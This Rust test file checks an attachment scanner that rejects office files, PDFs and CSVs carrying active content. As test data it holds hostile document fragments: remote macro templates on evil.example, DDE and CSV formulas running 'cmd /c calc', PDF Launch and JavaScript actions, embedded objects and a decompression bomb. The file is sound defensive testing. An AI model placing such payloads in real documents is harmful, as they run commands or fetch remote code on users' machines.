//! Files that do something by themselves when they are opened.

use plan::attachments::{Checked, MediaType};
use plan::fault::Fault;

use crate::attachments::{archive, examined, key, pdf, sample};

/// The key of what is wrong, or `ok`.
fn said(found: Result<Checked, Fault>) -> &'static str {
    if found.is_ok() { "ok" } else { key(found) }
}

/// An office file of a kind with parts beside its main one.
fn with(kind: MediaType, parts: &[(&str, &str)]) -> Vec<u8> {
    let types =
        format!(r#"<Types><Override PartName="/x.xml" ContentType="{}.main+xml"/></Types>"#, kind.name());
    let first = match kind {
        MediaType::Docx | MediaType::Xlsx | MediaType::Pptx => ("[Content_Types].xml", types.as_str()),
        _ => ("mimetype", kind.name()),
    };
    archive(&[&[first], parts].concat())
}

#[test]
fn nothing_that_runs_or_fetches_something_when_it_is_opened_is_attached() {
    use MediaType::{Docx, Odp, Ods, Odt, Pdf, Pptx, Xlsx};
    let relation = |kind: &str, target: &str| {
        format!(
            r#"<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
        )
    };
    let template = relation("attachedTemplate", "https://evil.example/mall.dotm");
    let server = relation("attachedTemplate", "file:///\\\\192.0.2.1\\m\\mall.dotx");
    let own = relation("attachedTemplate", "file:///\\\\filserver\\mallar\\Protokoll.dotx");
    let link = relation("hyperlink", "https://kommun.example/");
    let split = r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>
        <w:r><w:instrText>EAU&#84;O cmd "/c calc"</w:instrText></w:r></w:p>"#;
    let object = r#"<Relationship Type="http://x/relationships/oleObject" Target="embeddings/x.dat"/>"#;
    let disguised = r#"<Relationship Type="http://x/image" Target="https://evil.example/x.png" TargetMode="External"
        xmlns:z="u" z:TargetMode="Internal" z:Target="x.png" z:Type="http://x/hyperlink"/>"#;
    let page_of_the_web = r#"<Relationship Type="http://x/relationships/aFChunk" Target="x.html"/>"#;
    let page = r#"<w:p><w:r><w:instrText> PAGE \* MERGEFORMAT </w:instrText></w:r></w:p>"#;
    for (kind, parts, why) in [
        (Docx, ("word/_rels/settings.xml.rels", template.as_str()), "file-remote"),
        (Docx, ("word/_rels/settings.xml.rels", &server), "file-remote"),
        (Docx, ("word/_rels/settings.xml.rels", &own), "ok"),
        (Docx, ("word/_rels/document.xml.rels", &link), "ok"),
        (Docx, ("word/media/image1.png", "\u{7f}ELF"), "file-embedded"),
        (Docx, ("word/_rels/document.xml.rels", object), "file-embedded"),
        (Docx, ("word/_rels/document.xml.rels", page_of_the_web), "file-embedded"),
        (Docx, ("word/document.dat", split), "file-command"),
        (Docx, ("word/document.xml", r#"<?xml version="1.0" encoding="UTF-7"?><x/>"#), "file-unlike"),
        (Docx, ("word/document.xml", "<\0x\0"), "file-unlike"),
        (Docx, ("word/document.xml", "\0<\0x"), "file-unlike"),
        (Docx, ("word/document.dat", "\0<\0x"), "file-unlike"),
        (Docx, ("word/document.xml", "PNG"), "file-unlike"),
        (Docx, ("word/_rels/document.xml.rels", disguised), "file-remote"),
        (Docx, ("word/document.xml", r"<w:instrText>DDE&quot;c:\x&quot;</w:instrText>"), "file-command"),
        (Docx, ("word/document.xml", "<w:instrText>D<x/>DE x</w:instrText>"), "file-command"),
        (Docx, ("word/document.xml", "<x>&unknown;</x>"), "file-unlike"),
        (Docx, ("[content_types].XML", "<x/>"), "file-unlike"),
        (Xlsx, ("xl/worksheets/sheet1.xml", "<f>_xlfn.IMAGE (A1)</f>"), "file-remote"),
        (Docx, ("word/document.xml", r"<w:instrText>MACROBUTTON NoMacro [Klicka här]</w:instrText>"), "ok"),
        (Docx, ("word/document.xml", split), "file-command"),
        (Docx, ("word/document.xml", page), "ok"),
        (Docx, ("word/document.xml", r#"<w:fldSimple w:instr="DDE x y"/>"#), "file-command"),
        (Docx, ("word/document.xml", "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"), "file-unlike"),
        (Docx, ("word/activeX/activeX1.xml", "<x/>"), "file-macros"),
        (
            Xlsx,
            (
                "xl/externalLinks/externalLink1.xml",
                r#"<externalLink><ddeLink ddeService="cmd"/></externalLink>"#,
            ),
            "file-command",
        ),
        (
            Xlsx,
            ("xl/worksheets/sheet1.xml", r#"<c><f>_xlfn.WEBSERVICE("http://x"&amp;A1)</f></c>"#),
            "file-remote",
        ),
        (Xlsx, ("xl/worksheets/sheet1.xml", "<c><f>SUM(A1:A2)</f></c>"), "ok"),
        (Xlsx, ("xl/connections.xml", "<connections><connection id='1'/></connections>"), "file-remote"),
        (Xlsx, ("xl/printerSettings/printerSettings1.bin", "x"), "ok"),
        (Pptx, ("ppt/slides/slide1.xml", r#"<a:hlinkClick action="ppaction://program"/>"#), "file-command"),
        (Odt, ("Basic/Standard/Module1.xml", "<x/>"), "file-macros"),
        (Odt, ("content.xml", "<office:scripts><script:event-listener/></office:scripts>"), "file-macros"),
        (Odt, ("content.xml", "<office:scripts/>"), "ok"),
        (Odt, ("content.xml", r#"<draw:image xlink:href="https://evil.example/x.png"/>"#), "file-remote"),
        (Odt, ("content.xml", r#"<text:a xlink:href="https://kommun.example/">x</text:a>"#), "ok"),
        (Odt, ("content.xml", r#"<draw:object-ole xlink:href="./Object 1"/>"#), "file-embedded"),
        (
            Ods,
            ("content.xml", r#"<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>"#),
            "file-command",
        ),
        (Ods, ("content.xml", "<table:dde-link/>"), "file-command"),
        (Odp, ("content.xml", "<draw:applet/>"), "file-embedded"),
    ] {
        let found = examined(&format!("a.{}", kind.ending()), with(kind, &[parts]));
        assert_eq!(said(found), why, "{kind}: {parts:?}");
    }
    for (objects, why) in [
        ("3 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n", "file-macros"),
        ("3 0 obj\n<</A<</S/L#61unch/F(cmd.exe)>>>>\nendobj\n", "file-command"),
        ("3 0 obj\n<</Names[<</J#53(x)>>]>>\nendobj\n", "file-macros"),
        ("3 0 obj\n<</Type/Filespec/EF<</F 4 0 R>>>>\nendobj\n", "file-embedded"),
        ("3 0 obj\n<</AcroForm<</XFA[]>>>>\nendobj\n", "file-macros"),
        ("3 0 obj\n<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\x)>>\nendobj\n", "file-remote"),
        ("3 0 obj\n<</S 9 0 R/F(cmd.exe)>>\nendobj\n9 0 obj\n/Launch\nendobj\n", "file-command"),
        (
            "3 0 obj\n<</OpenAction 9 0 R>>\nendobj\n9 0 obj\n<</S/URI/URI(https://x)>>\nendobj\n",
            "file-remote",
        ),
        (
            "3 0 obj\n<</AA<</O<</S/GoTo/Next[9 0 R]>>>>>>\nendobj\n9 0 obj\n<</S/URI>>\nendobj\n",
            "file-remote",
        ),
        ("3 0 obj\n<</OpenAction[1 0 R/Fit]>>\nendobj\n", "ok"),
        ("3 0 obj\n<</S/URI/URI(https://kommun.example)>>\nendobj\n", "ok"),
        ("3 0 obj\n<</S/GoTo/D[1 0 R/Fit]>>\nendobj\n", "ok"),
        ("3 0 obj\n<</S/Transparency/Type/Group>>\nendobj\n", "ok"),
    ] {
        let found = examined(&format!("a.{}", Pdf.ending()), pdf(objects));
        assert_eq!(said(found), why, "{objects}");
    }
    assert_eq!(key(examined("a.csv", b"namn;v\xe4rde\r\nx;=cmd|' /C calc'!A0\r\n".to_vec())), "file-command");
    assert_eq!(key(examined("a.pdf", b"%PDF-1.7\n%%EOF\n".to_vec())), "file-pdf-unreadable");
}

#[test]
fn files_in_files_are_examined_too() {
    let evil = with(MediaType::Xlsx, &[("xl/vbaProject.bin", "x")]);
    let inner = |bytes: &[u8]| {
        let types = format!(
            r#"<Types><Override PartName="/x.xml" ContentType="{}.main+xml"/></Types>"#,
            MediaType::Docx.name()
        );
        let parts = [
            ("[Content_Types].xml", types.as_bytes()),
            ("word/embeddings/Microsoft_Excel_Sheet.xlsx", bytes),
        ];
        archive(&parts)
    };
    assert_eq!(key(examined("a.docx", inner(&evil))), "file-macros");
    assert!(examined("a.docx", inner(&sample(MediaType::Xlsx))).is_ok());
    let older = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice();
    assert_eq!(key(examined("a.docx", inner(older))), "file-embedded");
    let deep = inner(&inner(&inner(&sample(MediaType::Xlsx))));
    assert_eq!(key(examined("a.docx", deep)), "file-embedded");
    let bomb = "0".repeat(200_000_000);
    assert_eq!(
        key(examined("a.docx", with(MediaType::Docx, &[("word/document.xml", &format!("<x>{bomb}"))]))),
        "file-packed"
    );
}
